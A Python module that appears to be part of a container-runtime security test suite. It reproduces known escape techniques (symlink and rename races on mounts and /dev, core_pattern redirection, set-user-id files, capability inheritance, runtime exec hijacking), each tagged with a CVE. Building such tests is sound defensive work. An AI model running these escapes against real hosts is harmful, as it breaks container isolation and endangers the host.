# SPDX-License-Identifier: Apache-2.0
"""Ways out that need more than a program inside: a hostile image, a friend outside who swaps names, a caller who leaks.

A scene is a function of an Attack that returns [(name, result, error)]; SCENES lists them with what they try."""
import ctypes
import json
import mmap
import os
import pathlib
import shutil
import signal
import stat
import struct
import subprocess
import time

import attack as suite

RENAME_EXCHANGE = 2
SWAPS = int(os.environ.get('ATTACK_SWAPS', '4000'))
# How long a name keeps its meaning between two swaps, in seconds.
PAUSE = float(os.environ.get('ATTACK_PAUSE', '0.0002'))
STARTS = int(os.environ.get('ATTACK_STARTS', '8'))
# A race that nothing holds is won in half of the starts or more.
STARTS_MOST = 60
CAPABILITIES_VERSION = 0x20080522
PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE = 47, 2


def answer(name, done, marker=None):
    """Held when the container did not start, else what its probe said; marker: the file that tells of the escape."""
    if marker is not None and marker():
        return [(name, 'escaped', '')]
    rows = [json.loads(line) for line in done.stdout.splitlines() if line.startswith('{')]
    if rows:
        return [(name, rows[-1]['result'], rows[-1]['error'])]
    if done.returncode == 0:
        return [(name, 'unclear', 'the probe said nothing')]
    return [(name, 'held', done.stderr.strip().rpartition('\n')[2])]


def cwd_descriptor(attack):
    config = attack.config(*attack.words('folder'))
    config['process']['cwd'] = f'/proc/self/fd/{attack.leaked}'
    return answer('cwd_descriptor', attack.run(config))


def capabilities_inherited(attack):
    def raise_all():
        header = struct.pack('Ii', CAPABILITIES_VERSION, 0)
        data = ctypes.create_string_buffer(24)
        suite.check(suite.libc.capget(header, data))
        words = list(struct.unpack('6I', data.raw[:24]))
        words[2], words[5] = words[1], words[4]
        suite.check(suite.libc.capset(header, struct.pack('6I', *words)))
        for number in range(64):
            suite.libc.prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, number, 0, 0)
    done = attack.run(attack.config(*attack.words('inherited')), preexec_fn=raise_all)
    return answer('capabilities_inherited', done)


def set_user_id(attack):
    """A set-user-id file of root in the image, executed by an ordinary user."""
    root = attack.make_root('raised')
    shutil.copy(root / 'probe', root / 'raised')
    os.chown(root / 'raised', attack.owner, attack.owner)
    os.chmod(root / 'raised', 0o4755)
    config = attack.config(*attack.words('raised'), root=root)
    config['process']['args'][0] = '/raised'
    config['process']['user'] = {'uid': 1000, 'gid': 1000}
    return answer('set_user_id', attack.run(config))


def fake_proc(attack):
    """A volume over /proc: what the runtime masks and protects there is not the kernel's."""
    fake = attack.folder / 'fake'
    (fake / 'sys').mkdir(parents=True)
    (fake / 'kcore').write_text('fake\n')
    config = attack.config(*attack.words('started'))
    config['mounts'].append({'destination': '/proc', 'type': 'bind', 'source': str(fake), 'options': ['bind']})
    config['linux'].update(maskedPaths=['/proc/kcore'], readonlyPaths=['/proc/sys'])
    return answer('fake_proc', attack.run(config))


def mask_redirected(attack):
    """The image's /dev/null leads to a setting of the kernel, and masks are laid of it."""
    root = attack.make_root('redirected')
    (root / 'dev' / 'null').unlink()
    (root / 'dev' / 'null').symlink_to('/proc/sys/kernel/core_pattern')
    config = attack.config(*attack.words('redirected'), root=root)
    config['linux'].update(maskedPaths=['/proc/version'], readonlyPaths=[])
    return answer('mask_redirected', attack.run(config))


def sysctl_injected(attack):
    value = pathlib.Path('/proc/sys/kernel/core_pattern').read_text(encoding='utf-8').strip()
    config = attack.config(*attack.words('started'))
    config['linux']['sysctl'] = {'kernel.core_pattern': value}
    return answer('sysctl_injected', attack.run(config))


def hook_environment(attack):
    """What a pod may have put into the caller's environment reaches a program that the host's root runs."""
    heard = attack.folder / 'heard'
    config = attack.config(*attack.words('started'))
    config['hooks'] = {'createRuntime': [
        {'path': '/bin/sh', 'args': ['sh', '-c', f'echo "$LD_PROBE" >{heard}']}]}
    done = attack.run(config, environment={'LD_PROBE': 'loaded'})
    if done.returncode:
        return [('hook_environment', 'unclear', done.stderr.strip())]
    return [('hook_environment', 'escaped' if heard.read_text() == 'loaded\n' else 'held', '')]


def device_of_volume(attack):
    """A device node that a volume brought along, and what its driver can be asked."""
    if not attack.facts.get('major'):
        return [('device_of_volume', 'inapplicable', '')]
    node = attack.folder / 'node'
    os.mknod(node, stat.S_IFBLK | 0o666, os.makedev(int(attack.facts['major']), int(attack.facts['minor'])))
    os.chmod(node, 0o666)
    config = attack.config(*attack.words('device'))
    config['mounts'].append({'destination': '/volume/disk', 'type': 'bind', 'source': str(node), 'options': ['bind']})
    return answer('device_of_volume', attack.run(config))


def processor_hog(attack):
    """More than the fifth of a processor that the container has."""
    config = attack.config(*attack.words('processor'))
    if 'limits' not in attack.off:
        config['linux']['resources']['cpu'] = {'quota': 20000, 'period': 100000}
    return answer('processor_hog', attack.run(config))


class Swapper:
    """A friend outside of the container, as another container with the same volume is: it swaps two names for ever."""

    def __init__(self, one, other):
        self.shared = mmap.mmap(-1, 8)
        names = os.fsencode(one), os.fsencode(other)
        self.pid = os.fork()
        if self.pid == 0:
            count = 0
            while True:
                suite.libc.renameat2(-100, names[0], -100, names[1], RENAME_EXCHANGE)
                count += 1
                self.shared[:] = struct.pack('Q', count)
                time.sleep(PAUSE)

    def count(self):
        return struct.unpack('Q', self.shared[:])[0]

    def close(self):
        os.kill(self.pid, signal.SIGKILL)
        os.waitpid(self.pid, 0)


def landing(attack, name):
    """A folder of the host's root, where nothing may be made."""
    folder = attack.folder / f'landing-{name}'
    folder.mkdir()
    return folder


def race(name, attack, names, config_of, marker=None, before=()):
    """
    Starts containers while two names are swapped, until one gets out or enough swaps were made; with no layer at all
    until one gets out. marker: the file that tells of the escape, else the probe says.
    """
    swapper = Swapper(*names)
    starts, held, rows = 0, None, []
    try:
        while starts < STARTS or swapper.count() < SWAPS or (attack.is_bare() and starts < STARTS_MOST):
            rows = answer(name, attack.run(config_of(starts), before=before), marker)
            starts += 1
            if rows[0][1] == 'escaped' and (marker is None or marker()):
                return rows
            # A start may be lost, as where a terminal was swapped away under it; all of them must not be.
            if marker is not None or rows[0][1] == 'held':
                held = rows[0][2]
    finally:
        attack.raced[name] = starts, swapper.count()
        swapper.close()
    return rows if held is None else [(name, 'held', held)]


def mount_target_link(attack):
    """A link of the image where a mount's target is missing: it would be made where the link leads."""
    where = landing(attack, 'target')
    root = attack.make_root('linked')
    (root / 'data' / 'link').symlink_to(where)
    config = attack.config(*attack.words('started'), root=root)
    config['mounts'].append({'destination': '/data/link/made', 'type': 'tmpfs', 'source': 'tmpfs'})
    return answer('mount_target_link', attack.run(config), lambda: any(where.iterdir()))


def mount_target_race(attack):
    volume = attack.folder / 'volume'
    where = landing(attack, 'mount_target_race')
    (volume / 'target').mkdir()
    os.chown(volume / 'target', attack.owner, attack.owner)
    (volume / 'link').symlink_to(where)

    def config_of(number):
        config = attack.config(*attack.words('started'))
        config['mounts'].append({'destination': f'/volume/target/made{number}', 'type': 'tmpfs', 'source': 'tmpfs'})
        return config
    return race('mount_target_race', attack, (volume / 'target', volume / 'link'), config_of,
                lambda: any(where.iterdir()))


def bind_source_race(attack):
    """The source of a volume becomes a link to a folder of the host after the ceiling was asked whether it may."""
    volume = attack.folder / 'volume'
    (volume / 'source').mkdir()
    (volume / 'alias').symlink_to(attack.outside.passed)
    ceiling = attack.folder / 'ceiling'
    ceiling.mkdir(mode=0o755)
    allowed = [{'path': str(path)} for path in (volume, '/proc', '/sys')]
    (ceiling / 'sources.json').write_text(json.dumps({'mounts': {'sources': allowed}}))

    def config_of(_):
        config = attack.config(*attack.words('bound'))
        config['mounts'].append({'destination': '/tmp/bound', 'type': 'bind', 'source': str(volume / 'source'),
                                 'options': ['bind']})
        return config
    return race('bind_source_race', attack, (volume / 'source', volume / 'alias'), config_of,
                before=() if 'ceiling' in attack.off else ('--ceiling', ceiling))


def console_race(attack):
    """
    /dev is a volume, where a friend moves the terminals aside: what lies at the terminal's name then is a link to a
    setting of the kernel, which the runtime would open for the program.
    """
    dev = attack.folder / 'volume' / 'terminals'
    for name in ('pts', 'other'):
        (dev / name).mkdir(parents=True)
        (dev / name / 'ptmx').symlink_to('/dev/other/ptmx')
        (dev / name / '0').symlink_to('/proc/sys/kernel/core_pattern')
    (dev / 'shm').mkdir()
    (dev / 'null').touch()
    for path in [dev, *dev.rglob('*')]:
        os.chown(path, attack.owner, attack.owner, follow_symlinks=False)

    def config_of(_):
        config = attack.config(*attack.words('console'))
        config['process']['terminal'] = True
        config['mounts'][1:1] = [{'destination': '/dev', 'type': 'bind', 'source': str(dev), 'options': ['bind']}]
        return config
    return race('console_race', attack, (dev / 'pts', dev / 'other'), config_of)


def dev_link(attack):
    """The image's /dev is a link."""
    where = landing(attack, 'dev')
    root = attack.make_root('devlink')
    shutil.rmtree(root / 'dev')
    (root / 'dev').symlink_to(where)
    return answer('dev_link', attack.run(attack.config(*attack.words('started'), root=root)),
                  lambda: any(where.iterdir()))


def dev_race(attack):
    root = attack.make_root('devrace')
    where = landing(attack, 'dev_race')
    shutil.rmtree(root / 'dev')
    (root / 'dev').mkdir()
    (root / 'link').symlink_to(where)
    return race('dev_race', attack, (root / 'dev', root / 'link'),
                lambda _: attack.config(*attack.words('started'), root=root), lambda: any(where.iterdir()))


def left_for_host(attack):
    """A set-user-id file in a volume, whose owner is root on the host or is not."""
    done = attack.run(attack.config(*attack.words('left')))
    file = attack.folder / 'volume' / 'left'
    rows = answer('left_for_host', done)
    if rows[0][1] == 'escaped' and not (file.stat().st_uid == 0 and file.stat().st_mode & stat.S_ISUID):
        return [('left_for_host', 'held', 'owner')]
    return rows


def watched(attack, names, lure):
    """
    What gets out of a container that lies in wait for processes of the runtime, which lure() brings into its pid
    namespace until each way has been one, or enough processes refused it.
    """
    attack.facts.update(program=os.stat(attack.runtime).st_ino, refusals=4 if attack.is_bare() else 2)
    config = attack.config(*attack.words())
    config['process']['args'][1] = 'watch'
    volume = attack.folder / 'volume'
    output = attack.folder / 'watched'
    with open(output, 'wb') as to:
        name = attack.start(config, to)
    try:
        end = time.monotonic() + 60
        while not (volume / 'seen').exists() and time.monotonic() < end:
            lure(name)
        (volume / 'stop').touch()
        suite.wait_until(lambda: len(output.read_text().splitlines()) == len(names), 30)
    finally:
        attack.call('delete', '--force', name)
        for made in ('stop', 'seen'):
            (volume / made).unlink(missing_ok=True)
    rows = [json.loads(line) for line in output.read_text().splitlines()]
    return [(name, row['result'], row['error']) for name, row in zip(names, rows)]


def joined(attack):
    """The runtime joins by `exec`, and is made to execute itself."""
    return watched(attack, JOINED, lambda name: attack.call('exec', name, '/proc/self/exe', '--version',
                                                            stdin=subprocess.DEVNULL))


def waiting(attack):
    """The runtime waits in a container that is created and not started, and shares the pid namespace."""
    def lure(name):
        pid = json.loads(attack.call('state', name, stdin=subprocess.DEVNULL).stdout)['pid']
        config = attack.config(*attack.words('started'))
        for space in config['linux']['namespaces']:
            if space['type'] in ('user', 'pid'):
                space['path'] = f"/proc/{pid}/ns/{space['type']}"
        for maps in ('uidMappings', 'gidMappings'):
            config['linux'].pop(maps, None)
        folder = attack.bundle(config)
        with open(attack.folder / 'waiting', 'wb') as to:
            done = attack.call('create', '--bundle', folder, f'c{attack.count}', stdin=subprocess.DEVNULL, stdout=to,
                               stderr=to)
        if done.returncode:
            raise suite.Failure((attack.folder / 'waiting').read_text())
        time.sleep(0.1)
        attack.call('delete', '--force', f'c{attack.count}', stdin=subprocess.DEVNULL)
    return watched(attack, WAITING, lure)


RUNTIME, PATHS, CALLER = 'the runtime seen from inside', 'paths and links', 'what the caller passes on'
LIMITS = 'exhaustion'
JOINED = {
    'join_program': 'CVE-2019-5736',
    'join_memory': 'CVE-2016-9962',
    'join_descriptors': 'CVE-2016-9962',
    'join_root': 'CVE-2016-9962',
    'join_trace': 'CVE-2016-9962',
}
WAITING = {name.replace('join', 'wait'): shape for name, shape in JOINED.items()}
SCENES = [
    ({'processor_hog': 'processor'}, LIMITS, processor_hog),
    ({'cwd_descriptor': 'CVE-2024-21626'}, CALLER, cwd_descriptor),
    ({'capabilities_inherited': 'CVE-2022-29162'}, CALLER, capabilities_inherited),
    ({'hook_environment': 'CVE-2025-23266'}, CALLER, hook_environment),
    ({'sysctl_injected': 'CVE-2022-0811'}, CALLER, sysctl_injected),
    ({'set_user_id': 'set-user-id file'}, CALLER, set_user_id),
    ({'left_for_host': 'CVE-2021-41091'}, CALLER, left_for_host),
    ({'device_of_volume': 'device ioctl'}, CALLER, device_of_volume),
    ({'fake_proc': 'CVE-2019-16884'}, PATHS, fake_proc),
    ({'mask_redirected': 'CVE-2025-31133'}, PATHS, mask_redirected),
    ({'mount_target_link': 'CVE-2024-45310'}, PATHS, mount_target_link),
    ({'mount_target_race': 'CVE-2021-30465'}, PATHS, mount_target_race),
    ({'dev_link': 'CVE-2026-41579'}, PATHS, dev_link),
    ({'dev_race': 'CVE-2026-47766'}, PATHS, dev_race),
    ({'bind_source_race': 'CVE-2021-25741'}, PATHS, bind_source_race),
    ({'console_race': 'CVE-2025-52565'}, PATHS, console_race),
    (JOINED, RUNTIME, joined),
    (WAITING, RUNTIME, waiting),
]


# What needs the right moment: an answer takes many starts.
RACES = (mount_target_race, dev_race, bind_source_race, console_race)
SLOW = {name for names, _, scene in SCENES if scene in (*RACES, joined, waiting) for name in names}


def listed():
    """[{'name', 'about', 'shape'}] of the scenes."""
    return [{'name': name, 'about': about, 'shape': shape} for names, about, _ in SCENES
            for name, shape in names.items()]


def run_all(attack, wanted=()):
    """[{'name', 'result', 'error'}] of the scenes that have one of the wanted names, or of all."""
    rows = []
    for names, _, scene in SCENES:
        if wanted and not set(wanted) & set(names):
            continue
        suite.progress(scene.__name__)
        try:
            rows += scene(attack)
        except (subprocess.TimeoutExpired, suite.Failure) as failure:
            rows += [(name, 'unclear', str(failure)) for name in names]
    return [{'name': name, 'result': result, 'error': error} for name, result, error in rows]
